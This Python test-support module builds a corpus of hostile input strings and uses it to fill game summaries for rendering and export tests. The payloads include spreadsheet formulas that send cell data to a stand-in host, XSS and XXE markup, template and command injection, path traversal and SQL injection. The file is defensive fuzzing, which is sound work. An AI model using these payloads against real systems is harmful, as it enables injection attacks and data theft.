"""Three hundred texts that people paste or type to break things, and summaries full of them.

Every text goes through the same door as what people type (`game.core.text`), so a summary holds what the door lets in.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import chain, cycle

from pydantic import BaseModel, TypeAdapter, ValidationError

from game.analysis.evidence import CardShown, EvidenceItem
from game.analysis.summary import Summary, summarise
from game.analysis.themes import Reflection
from game.core.seats import Party, Player
from game.core.text import Line, Name, Note, ShortName, Text
from game.core.words import clean
from game.reports.typed import TYPED
from tests.reports.rich import with_names

FORMULAS = (
    "=1+1", "=cmd|'/c calc'!A0", '=HYPERLINK("http://kwaad.example?x="&A1,"klik")', "+1+1", "+31 6 12345678", "-1+1", "-5",
    "- gewoon een streepje", "@SUM(1+1)*cmd|'/c calc'!A0", "@thuis", "  =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\u00a0=1+1",
    "\u3000=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", '"=1+1"', "a\n=1+1", "a\n  @SUM(1)", "a\r\n+1", "a;=1+1",
    "a,=1+1", "a\t=1+1", '";=1+1;"', '",=1+1,"', '"\n=1+1', "=IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")", "=DDE()", "|calc",
    "%=1", "=", "+", "-", "@", "==1", "=A1:A9", "{=SUM(A1)}", "−1+1", "=SUM(1;2)", "sep=;", "=\u200b1+1", "\ufeff=1+1",
)  # fmt: skip
LOOKALIKES = (
    "00123", "1e5", "1-2", "3/4", "0x1F", "TRUE", "true", "null", "None", "NaN", "Infinity", "-0", "1,5", "1.5", "1.000,00",
    "2026-03-02", "12:30", "#N/A", "#REF!", "_x0041_", "_xHHHH_", "\\u0041", "\\n", "[1, 2]", '{"a": 1}', "undefined",
)  # fmt: skip
MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "<!-- weg -->", "-->", "]]>", "<![CDATA[x]]>", "&lt;b&gt;", "&amp;amp;", "&#x27;",
    "&nbsp;", "&xxe;", '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "<a href=javascript:alert(1)>klik</a>", "<iframe src=//kwaad.example>",
    "<base href=//kwaad.example>", "<meta http-equiv=refresh content=0>", "<form action=//kwaad.example><button>",
    "<style>*{display:none}</style>", "</script>", "<template>", "<math><mi>x", "<noscript>", "</textarea>", "<plaintext>",
    "<b>vet</b>", "<", ">", "&", '"', "'", '"><', "</svg>", "</desc><script>alert(1)</script>", "<title>x</title>", "</p></div>",
    '<?xml version="1.0"?>', '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>', "<x:y/>", "xmlns=x", "a < b > c & d",
    "</w:t>", "<br>", "&#0;", "&#xD800;",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "{{ summary }}", "{% for x in y %}", "{% raw %}", "{# niets #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0}", "{n}",
    "{words}", "{party}", "{", "}", "{{", "}}", "%s %d %n", "%(naam)s", "$HOME", "$(id)", "`id`", "{!r}", "{.__class__}",
    "{{ ''.__class__.__mro__ }}", "{%", "%}", "\\1", "\\g<0>", "@{x}", "[[x]]",
)  # fmt: skip
MARKDOWN = (
    "# kop", "- punt", "1. een", "1) een", "+ plus", "* ster *", "**vet**", "_cursief_", "[klik](javascript:alert(1))",
    "![x](http://kwaad.example/x.png)", "<http://kwaad.example>", "`code`", "```", "~~~", "---", "***", "===", "> citaat",
    "|a|b|", "|-|-|", "\\", "\\*", "~~weg~~", "[^1]", "[x]: http://kwaad.example", "- [ ] taak", "==geel==", "H~2~O", ":smile:",
    "https://kwaad.example/?a=1&b=2", "www.kwaad.example", "a@b.example", "*", "_", "#", "    code", "<div>", "1986\\. Een jaar",
    "snake_case_naam", "2*3*4", "a\nb", "a\n\n# kop", "a\n- punt", "a\n\n    code", "[", "]", "(c)", "^noot^", "!",
)  # fmt: skip
TYPST = (
    "#let x = 1", "*x*", "$x$", "$ sum_(i=1)^n $", "@ref", "\\u{41}", '#read("/etc/passwd")', '#include "x.typ"', "= Kop",
    "/ term: uitleg", "<label>", "// commentaar", "/* commentaar", '#eval("1")', "#sys.inputs", '#import "@preview/x:1.0.0"',
    "#strong[x]", "#(1+1)", "#", "~", "--", "..", "#panic()", "#set page(width: 1pt)", "#pagebreak()", "]#[", "\\ ", "#for i in x",
)  # fmt: skip
CONTROL = (
    "a\x00b", "\x07bel", "\x1b[31mrood\x1b[0m", "\x1b]0;titel\x07", "a\x7fb", "a\x85b", "a\r\nb", "a\rb", "a\x0bb", "a\x0cb",
    "a\u2028b", "a\u2029b", "half \ud800 teken", "half \udfff teken", "heel \ud83d\ude00 teken", "\ufeffbom", "a\ufffeb",
    "a\uffffb", "a\U0001fffeb", "af\u00adbreken", "nul\u200bbreed", "a\u2060b", "e\u0301e\u0300", "\ufdd0\ufdd1", "a\ue000b",
    "\x1a", "\x08\x08\x08weg",
)  # fmt: skip
DIRECTIONS = (
    "\u202eomgekeerd", "\u2066los\u2069", "\u202bx\u202c", "مرحبا بالعالم", "שלום", "abc שלום (123)", "العدد ١٢٣ و 456",
    "\u200fx", "\u200ex", "می\u200cخواهم", "(שלום)", "שלום!", "«مرحبا»", "a\u061cb", "עברית, English, עברית", "٣ من ٥",
)  # fmt: skip
SIGNS = (
    "👩\u200d👩\u200d👧\u200d👦 gezin", "🏳\ufe0f\u200d🌈", "👍🏽 mee eens", "🇳🇱🇧🇪", "1️⃣", "𝒳𝒴𝒵", "日本語のテキスト", "한국어", "ภาษาไทย", "Ελληνικά", "Кириллица",
    "ﷺ", "Z̴̧̛͖͇̎͗a̷̢̛̙͐l̶̛̠͋g̵̱͘o", "ﬁets", "ß", "İstanbul", "ǅ", "\u0301", "\u20dd", "☃\ufe0e", "☃\ufe0f", "½ ² ™ € £", "„Zo”", "‚zo’",
    "’s avonds", "…", "–—", "→ ✓ ✗", "𓀀", "\U000e0041", "नमस्ते", "দল",
)  # fmt: skip
LONG = (
    "x" * 60, "W" * 60, "i" * 60, "Aansprakelijkheidswaardevaststellingsveranderingen" + "en" * 5, "x" * 300, "W" * 300,
    "a " * 149 + "a", "https://kwaad.example/" + "pad/" * 60, "-".join(["woord"] * 40), "\u00a0".join(["vast"] * 50), "日" * 150,
    "ם" * 200, "👍" * 60, "é" * 300, "=" * 300, "<" * 300, "*" * 300, "{" * 300, "\\" * 300, '"' * 300,
)  # fmt: skip
PATHS = (
    "../../etc/passwd", "..\\..\\windows", "CON", "nul:", "aux.txt", "COM1", "C:\\x", "/etc/passwd", "~root", "a/b", "a\\b", ".",
    "..", "-rf /", "*.csv", "file:///etc/passwd", "\\\\server\\map", "naam.", "a:b", "a?b", "a|b", "%2e%2e%2f", "$RECYCLE.BIN",
    ".htaccess", "a\x00.pdf", "--to", "naam\n.csv", "LPT1.txt",
)  # fmt: skip
QUOTES = ('""', 'a"b', "a;b", "a,b", "a\tb", "''", "'; DROP TABLE players;--", "a\nb\nc", '"a\nb"', 'a";"b', "a\\", "\\\"")  # fmt: skip

STRINGS: tuple[str, ...] = tuple(
    dict.fromkeys(
        chain(FORMULAS, LOOKALIKES, MARKUP, TEMPLATES, MARKDOWN, TYPST, CONTROL, DIRECTIONS, SIGNS, LONG, PATHS, QUOTES)
    )
)
"""All of them as somebody would type or paste them, before the door."""

_DOORS: dict[str, TypeAdapter[str]] = {
    "name": TypeAdapter(Name),
    "short": TypeAdapter(ShortName),
    "line": TypeAdapter(Line),
    "note": TypeAdapter(Note),
}


def let_in(text: str, door: str = "line") -> str | None:
    """What the door for a name, a short name, a line or a note makes of a text; None when it is refused or nothing is left."""
    try:
        return _DOORS[door].validate_python(clean(text, lines=door == "note")) or None
    except ValidationError:
        return None


def hostile_summary(start: int = 0, interests: int = 0) -> Summary:
    """A summary in which every text that people type is one of the hostile texts, beginning with that of this number.

    It has this many interests more than its session had: with `len(STRINGS)` every text is an interest once. Each field
    goes through the texts by itself; what the door for it refuses is left out. Equal texts stay equal.
    """
    summary = summarise(with_names().state)
    first = summary.interests[0]
    more = tuple(
        first.model_copy(
            update={
                "id": f"x{place}",
                "text": f"text {place}",
                "short_name": f"short {place}",
                "position": f"position {place}",
                "whys": (f"why {place}", f"and why {place}"),
            }
        )
        for place in range(interests)
    )
    dressed = _Wardrobe(start).dressed(summary.model_copy(update={"interests": (*summary.interests, *more)}))
    assert isinstance(dressed, Summary)
    return dressed


def told_in_text(summary: Summary) -> list[str]:
    """What a report in words tells of what people typed, names and roles too; only the short names are for the map."""
    named = [*(one.name for one in summary.parties), *(one.name for one in summary.players)]
    return [*named, *(one.role for one in summary.players if one.role), *_typed(summary)]


def _typed(value: object) -> Iterator[str]:
    if isinstance(value, tuple):
        for item in value:
            yield from _typed(item)
    elif isinstance(value, BaseModel):
        for name in type(value).model_fields:
            inner = getattr(value, name)
            if name in TYPED.get(type(value), ()) and name != "short_name":
                yield from (words for words in (inner if isinstance(inner, tuple) else (inner,)) if words)
            else:
                yield from _typed(inner)


class _Wardrobe:
    """Goes through a summary and puts the hostile texts, one after another, in the place of what people typed."""

    def __init__(self, start: int) -> None:
        self._turned = (*STRINGS[start % len(STRINGS) :], *STRINGS[: start % len(STRINGS)])
        self._fields: dict[tuple[type[BaseModel], str], Iterator[str]] = {}
        self._worn: dict[tuple[bool, str], str] = {}

    def dressed(self, one: object) -> object:
        """Return the same thing with hostile texts in it."""
        if isinstance(one, tuple):
            return tuple(self.dressed(item) for item in one)
        if not isinstance(one, BaseModel) or isinstance(one, CardShown | Text):
            return one
        changes: dict[str, object] = {}
        for name in type(one).model_fields:
            old = getattr(one, name)
            named = isinstance(one, Party | Player) and name in ("name", "role")
            scored = isinstance(one, EvidenceItem) and one.act == "scored"
            if named or (name in TYPED.get(type(one), ()) and not scored):
                changes[name] = (
                    tuple(self._text(one, name, words) for words in old)
                    if isinstance(old, tuple)
                    else self._text(one, name, old)
                )
            else:
                changes[name] = self.dressed(old)
        return one.model_copy(update=changes)

    def _text(self, one: BaseModel, name: str, old: str | None) -> str | None:
        if not old:
            return old
        if (type(one), name) not in self._fields:
            door = _door(one, name)
            place = len(self._fields) * 31 % len(self._turned)  # so that equal texts do not stand in for each other
            turned = (*self._turned[place:], *self._turned[:place])
            self._fields[type(one), name] = cycle([text for text in (let_in(text, door) for text in turned) if text])
        key = (name == "short_name", old)
        if key not in self._worn:
            self._worn[key] = next(self._fields[type(one), name])
        return self._worn[key]


def _door(one: BaseModel, name: str) -> str:
    if isinstance(one, Reflection):
        return "note"
    if name in ("title", "name", "word"):
        return "name"
    return "short" if name == "short_name" else "line"
